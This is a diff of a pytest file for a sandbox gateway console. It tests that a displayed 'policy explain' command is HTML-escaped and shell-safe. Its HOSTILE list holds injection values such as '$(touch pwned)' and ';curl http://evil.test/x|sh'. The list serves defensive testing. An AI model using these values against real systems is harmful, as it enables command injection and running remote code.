@@ -5,8 +5,12 @@ what to change, the live stream, and the request log fed by the real audit sink.
 from __future__ import annotations
 
 import asyncio
+import html
 import io
 import json
+import re
+import shlex
+import subprocess
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -20,6 +24,7 @@ from starlette.testclient import TestClient
 from gateway.api.console import requests as page
 from gateway.api.console import routes
 from gateway.api.console.advice import ADVICE, advice
+from gateway.cli import build_parser
 from gateway.core import refusal
 from gateway.core.audit import record
 from gateway.core.identity import Identity
@@ -126,14 +131,55 @@ def test_a_line_opens_its_decision_with_todays_explain(client: Any) -> None:
     refused = c.get("/console/requests/1").text
     assert "no rule allows it" in refused and "policy_denied" in refused
     assert ADVICE["policy_denied"].split(" (")[0] in refused.replace("&#39;", "'")
-    assert "sandbox-gateway policy explain agent GET https://evil.test:443/simple/" in refused
+    assert ("sandbox-gateway policy explain --policy=agent -- GET "
+            "https://evil.test:443/simple/") in refused
     allowed = c.get("/console/requests/2").text
     assert "What to change" not in allowed and "agent.yaml:" in allowed
-    assert "policy explain agent POST https://api.openai.com:443/v1/chat/completions" in allowed
+    assert ("policy explain --policy=agent -- POST "
+            "https://api.openai.com:443/v1/chat/completions") in allowed
     tunnel = c.get("/console/requests/3").text
-    assert "policy explain agent CONNECT https://pypi.org:443" in tunnel
+    assert "policy explain --policy=agent -- CONNECT https://pypi.org:443" in tunnel
     gone = c.get("/console/requests/999")
     assert gone.status_code == 404 and "no longer in the request log" in gone.text
+
+
+# (method, path) a sandbox chose; the URL the command names
+HOSTILE = [
+    ("GET", "/$(touch pwned)", "https://evil.test:443/$(touch pwned)"),
+    ("GET", "/;curl http://evil.test/x|sh", "https://evil.test:443/;curl http://evil.test/x|sh"),
+    ("GET", "/a'b\"c`touch pwned`", "https://evil.test:443/a'b\"c`touch pwned`"),
+    ("GET", "/x\n touch pwned &", "https://evil.test:443/x\n touch pwned &"),
+    ("GET", "/<b>bold</b>&amp;", "https://evil.test:443/<b>bold</b>&amp;"),
+    ("--resolve", "/x", "https://evil.test:443/x"),
+]
+
+
+@pytest.mark.parametrize(("method", "path", "url"), HOSTILE)
+def test_the_explain_command_is_one_quoted_argument_each(
+        client: Any, tmp_path: Path, method: str, path: str, url: str) -> None:
+    """The command shown is text (escaped HTML), and a shell splits it into exactly the
+    CLI's arguments: bash parses it, runs nothing of the path, and the CLI's own parser
+    reads the method and URL as given."""
+    c, state, clock = client
+    _feed(state, [_line(1, host="evil.test", decision="deny", error="policy_denied",
+                        method=method, path=path)], clock.now)
+    sign_in(c)
+    page_html = c.get("/console/requests/1").text
+    found = re.search(r"<p><code>(sandbox-gateway policy explain [^<]*)</code></p>", page_html)
+    assert found is not None, page_html
+    assert "<b>" not in found.group(1)  # (shown as text)
+    command = html.unescape(found.group(1))
+    argv = ["sandbox-gateway", "policy", "explain", "--policy=agent", "--", method, url]
+    assert shlex.split(command) == argv
+    assert subprocess.run(["bash", "-n", "-c", command], timeout=10).returncode == 0
+    # the command run by bash, with printf in place of the CLI: its arguments, one each
+    ran = subprocess.run(["bash", "-c", "printf '%s\\0' " + command.removeprefix(
+        "sandbox-gateway ")], cwd=tmp_path, capture_output=True, timeout=10)
+    assert ran.returncode == 0 and ran.stdout.split(b"\0")[:-1] == [
+        a.encode() for a in argv[1:]]
+    assert not (tmp_path / "pwned").exists()
+    args = build_parser().parse_args(argv[1:])
+    assert (args.policy, args.method, args.url) == ("agent", method, url)
 
 
 def test_the_live_stream_sends_new_lines_after_its_cursor(
